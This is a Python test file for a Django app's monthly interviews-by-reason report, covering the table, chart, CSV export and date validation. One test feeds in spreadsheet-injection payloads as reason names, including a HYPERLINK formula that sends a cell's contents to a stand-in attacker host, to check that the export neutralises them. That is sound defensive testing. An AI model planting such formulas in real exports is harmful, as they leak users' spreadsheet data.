"""Interviews per reason per month (R4 Reason), as a table, a chart and a CSV file."""

import csv
import datetime as dt
import io
import re

import pytest
from django.utils import timezone

from interviews.planning.configuration import InterviewReason

pytestmark = pytest.mark.django_db


@pytest.fixture
def interviews(registration, make_interview):
    first = InterviewReason.objects.create(name="First interview")
    second = InterviewReason.objects.create(name="Second interview")

    def at(y, m, d):
        return timezone.make_aware(dt.datetime(y, m, d, 10))

    make_interview(registration=registration, reason=first, when=at(2026, 9, 3))
    make_interview(registration=registration, reason=first, when=at(2026, 9, 30))
    make_interview(registration=registration, reason=second, when=at(2026, 10, 1))
    make_interview(registration=registration, reason=first, when=at(2026, 10, 2),
                   status="cancelled")
    make_interview(registration=registration, reason=second, when=at(2026, 12, 1))


def test_it_counts_interviews_per_reason_per_month(recruiter_client, interviews):
    response = recruiter_client.get("/reports/interviews/",
                                    {"start": "01-09-2026", "end": "31-10-2026"})
    html = response.content.decode()
    assert "September 2026" in html and "October 2026" in html and "December" not in html
    table = html[html.index("<tbody>"):html.index("</tbody>")]
    september = table[table.index("September 2026"):table.index("October 2026")]
    assert re.findall(r'<td class="text-end[^"]*">(\d+)</td>', september) == ["2", "0", "2"]
    assert "<svg" in html and "First interview: 2" in html


def test_the_csv_has_the_same_figures(recruiter_client, interviews):
    response = recruiter_client.get("/reports/interviews/",
                                    {"start": "01-09-2026", "end": "31-12-2026", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Month", "First interview", "Second interview", "Total"]
    assert rows[1:] == [["09-2026", "2", "0", "2"], ["10-2026", "0", "1", "1"],
                        ["11-2026", "0", "0", "0"], ["12-2026", "0", "1", "1"],
                        ["Total", "2", "2", "4"]]


def test_a_period_that_ends_before_it_starts_is_refused(recruiter_client):
    html = recruiter_client.get("/reports/interviews/",
                                {"start": "01-12-2026", "end": "01-09-2026"}).content.decode()
    assert 'id="error_1_id_end"' in html


def _end_error(html: str) -> str:
    return re.search(r'id="error_1_id_end"[^>]*>(?:<small>)?(?:<strong>)?(.*?)<', html).group(1)


def test_a_period_of_centuries_is_refused_next_to_the_field(recruiter_client):
    html = recruiter_client.get("/reports/interviews/",
                                {"start": "01-01-1900", "end": "31-12-2200"}).content.decode()
    assert _end_error(html) == "Choose a period of at most 5 years."
    assert 'value="01-01-1900"' in html and 'value="31-12-2200"' in html


def test_five_years_is_the_longest_period(recruiter_client):
    html = recruiter_client.get("/reports/interviews/",
                                {"start": "01-01-2026", "end": "31-12-2030"}).content.decode()
    assert 'id="error_1_id_end"' not in html and "December 2030" in html


@pytest.mark.parametrize("typed", ["31-12-9999", "01-01-0001", "9999-12-31"])
def test_a_date_outside_the_years_1900_to_2200_is_refused_next_to_the_field(
    recruiter_client, typed
):
    html = recruiter_client.get("/reports/interviews/",
                                {"start": "01-01-2026", "end": typed}).content.decode()
    assert _end_error(html) == "Choose a date between 01-01-1900 and 31-12-2200."
    assert f'value="{typed}"' in html


def test_a_reason_named_like_a_formula_is_text_in_the_csv(recruiter_client, registration,
                                                          make_interview):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
             "\tTab", "\rReturn", "Plain - reason"]
    for name in names:
        make_interview(registration=registration, when=timezone.now() - dt.timedelta(days=1),
                       reason=InterviewReason.objects.create(name=name))
    response = recruiter_client.get("/reports/interviews/", {"format": "csv"})
    header = next(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(header[1:-1]) == sorted(
        name if name[0].isalnum() else f"'{name}" for name in names)


def test_download_csv_without_a_period_downloads_the_default_period(recruiter_client,
                                                                   registration, make_interview):
    make_interview(registration=registration, when=timezone.now() - dt.timedelta(days=1))
    response = recruiter_client.get("/reports/interviews/", {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    today = timezone.localdate()
    assert len(rows) == 1 + 12 + 1 and rows[-1] == ["Total", "1", "1"]
    assert rows[1][0] == f"{(today.month % 12) + 1:02d}-{today.year - (today.month < 12)}"
